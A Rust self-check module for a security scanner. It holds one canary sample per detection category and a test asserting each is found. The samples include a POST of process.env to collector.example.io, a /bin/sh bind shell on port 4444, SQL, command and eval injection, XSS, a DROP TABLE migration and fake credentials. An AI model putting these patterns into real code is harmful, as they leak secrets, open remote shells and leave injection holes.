//! The self-check: one bad sample of every kind, and each must be found.

use crate::change::{ChangeSet, ChangedFile, Content, Origin};
use crate::finding::Category;
use crate::policy::Policy;
use crate::report::SelfCheck;

/// One sample: what must be found in it, where it lies, what it says.
type Sample = (Category, &'static str, fn() -> String);

/// Written in pieces, so that nobody's scanner stumbles over this file, this one's included.
const SAMPLES: &[Sample] = &[
    (Category::Token, "src/canary-token.ts", || {
        format!("const t = \"ghp_{}\";\n", "x7Kq2mV9bT4nR8wL1pZ6cY3dF5hJ0sAgEu2W")
    }),
    (Category::Secret, "deploy/canary.env", || format!("DATABASE_PASSWORD={}\n", "q7!Vd2#mZp9xLw")),
    (Category::Obfuscated, "src/canary-text.ts", || {
        format!("if (role !== \"user{}// admin\") {{ }}\n", '\u{202e}')
    }),
    (Category::Sqli, "src/canary-query.ts", || {
        "export async function GET(req) {\n  const id = new URL(req.url).searchParams.get('id');\n  \
         return prisma.$queryRawUnsafe(`SELECT * FROM users WHERE id = ${id}`);\n}\n"
            .to_owned()
    }),
    (Category::Xss, "src/canary-markup.js", || "document.body.innerHTML = location.hash;\n".to_owned()),
    (Category::Cmdi, "src/canary-command.js", || {
        "const { exec } = require('child_process');\n\
         app.get('/x', (req, res) => { exec('ls ' + req.query.dir); });\n"
            .to_owned()
    }),
    (Category::Eval, "src/canary-code.js", || {
        "app.get('/x', (req, res) => { eval(req.query.code); });\n".to_owned()
    }),
    (Category::Network, "src/canary-network.ts", || {
        "await fetch('http://203.0.113.7/v1', { method: 'POST', body: 'x' });\n".to_owned()
    }),
    (Category::Exfil, "src/canary-leak.ts", || {
        "await fetch('https://collector.example.io/v1', { method: 'POST', body: JSON.stringify(process.env) });\n"
            .to_owned()
    }),
    (Category::Backdoor, "src/canary-door.js", || {
        "const net = require('net'), cp = require('child_process');\n\
         net.createServer(s => { const sh = cp.spawn('/bin/sh'); s.pipe(sh.stdin); sh.stdout.pipe(s); }).listen(4444);\n"
            .to_owned()
    }),
    (Category::Destructive, "prisma/migrations/20260101000000_canary/migration.sql", || {
        "DROP TABLE \"Customer\";\n".to_owned()
    }),
    (Category::Architecture, "src/a/b/c/d/canary.ts", || {
        "import { x } from '../../../../../other/x';\n".to_owned()
    }),
    (Category::Dependency, "package.json", || {
        "{ \"name\": \"canary\", \"dependencies\": { \"canary\": \"git+https://example.io/x.git\" } }\n"
            .to_owned()
    }),
];

/// Looks at the samples; with a failing engine fewer are found than there are.
pub(crate) fn check(policy: &Policy) -> SelfCheck {
    if cfg!(fuzzing) {
        // A fuzzer learns nothing from the same samples over and over, and they take most of the time.
        return SelfCheck { found: SAMPLES.len(), of: SAMPLES.len() };
    }
    let found =
        SAMPLES.iter().filter(|(category, path, text)| is_found(*category, path, text(), policy)).count();
    SelfCheck { found, of: SAMPLES.len() }
}

fn is_found(category: Category, path: &str, text: String, policy: &Policy) -> bool {
    let after = Some(Content { mode: 0o100_644, bytes: text.into_bytes() });
    let file = ChangedFile { path: path.to_owned(), moved_from: None, before: None, after };
    let base_paths = vec!["src/index.ts".to_owned()];
    let change = ChangeSet { base_paths, ..ChangeSet::of(Origin::Trees, vec![file]) };
    let alone = change.files.iter().flat_map(|file| crate::scan_file(file, change.origin, policy).findings);
    alone.chain(crate::across(&change, policy)).any(|it| it.category == category && it.is_open())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_sample_is_found() {
        for (category, path, text) in SAMPLES {
            assert!(is_found(*category, path, text(), &Policy::default()), "{path}");
        }
    }
}
